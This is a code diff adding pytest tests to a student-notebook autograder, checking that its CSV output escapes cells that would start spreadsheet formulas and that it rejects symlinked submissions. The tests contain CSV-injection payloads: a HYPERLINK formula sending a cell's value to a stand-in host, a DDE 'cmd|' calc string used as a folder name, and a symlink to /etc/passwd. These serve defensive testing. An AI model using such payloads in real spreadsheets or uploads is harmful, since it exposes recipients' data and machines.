@@ -1,10 +1,12 @@
 """The instructor's and the student's commands, run as they would run them."""
 
 import csv
+import io
 import json
 import re
 import subprocess
 import sys
+from pathlib import Path
 
 import pytest
 
@@ -188,6 +190,44 @@ def test_stored_references_are_current(assignment):
                                rtol=graded.rtol / 100, atol=graded.atol / 100), \
                     (f"{notebook}/{grade_id}/{case_id} differs from the stored reference: "
                      f"run `python -m autograder references {assignment}`")
+
+
+def test_no_csv_cell_starts_a_formula(tmp_path):
+    from autograder.grade import SubmissionResult, results_csv
+    from autograder.spreadsheet import FORMULA_STARTS
+
+    formulas = [start + 'HYPERLINK("http://x.example/?"&A1,"open")' for start in FORMULA_STARTS]
+    results = [SubmissionResult(formula, -1.5 if n == 0 else 3.0, 6.0,
+                                f"{formula}.ipynb is a link in the zip, not a notebook file.")
+               for n, formula in enumerate(formulas)]
+    header, *rows = csv.reader(io.StringIO(results_csv(results)))
+    assert header == ["student_id", "score", "max_score", "percent", "error"]
+    for formula, (student, score, max_score, percent, error) in zip(formulas, rows):
+        assert student == "'" + formula and error.startswith("'" + formula)
+        assert float(score) in (-1.5, 3.0) and max_score == "6" and percent in ("-25.0", "50.0")
+    assert rows[0][1] == "-1.5"  # the grader's own negative number stays a number
+    # from the command line: a student id (a folder's name) that is a formula
+    submissions = tmp_path / "submitted"
+    folder = submissions / "=SUM(1+1)*cmd|' -C calc'!A0"
+    folder.mkdir(parents=True)
+    (folder / "numpy_basics.ipynb").symlink_to("/etc/passwd")
+    process = run_cli("grade", str(submissions), "--assignment", ASSIGNMENT, "--csv",
+                      str(tmp_path / "grades.csv"), "--gradebook", "none", "--cache-dir",
+                      str(tmp_path / "cache"), "--feedback-dir", str(tmp_path / "feedback"))
+    assert process.returncode == 1, process.stderr
+    (row,) = csv.DictReader((tmp_path / "grades.csv").open())
+    assert row["student_id"] == "'=SUM(1+1)*cmd|' -C calc'!A0"
+    cells = [cell for row in csv.reader((tmp_path / "grades.csv").open()) for cell in row]
+    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
+
+
+def test_every_csv_the_grader_writes_goes_through_one_writer():
+    import autograder
+
+    package = Path(autograder.__file__).parent
+    writers = {path.name for path in package.rglob("*.py")
+               if re.search(r"csv\.(writer|DictWriter)\b", path.read_text())}
+    assert writers == {"spreadsheet.py"}
 
 
 def test_a_roster_is_a_csv_with_a_student_id_column_or_one_id_per_line(tmp_path):
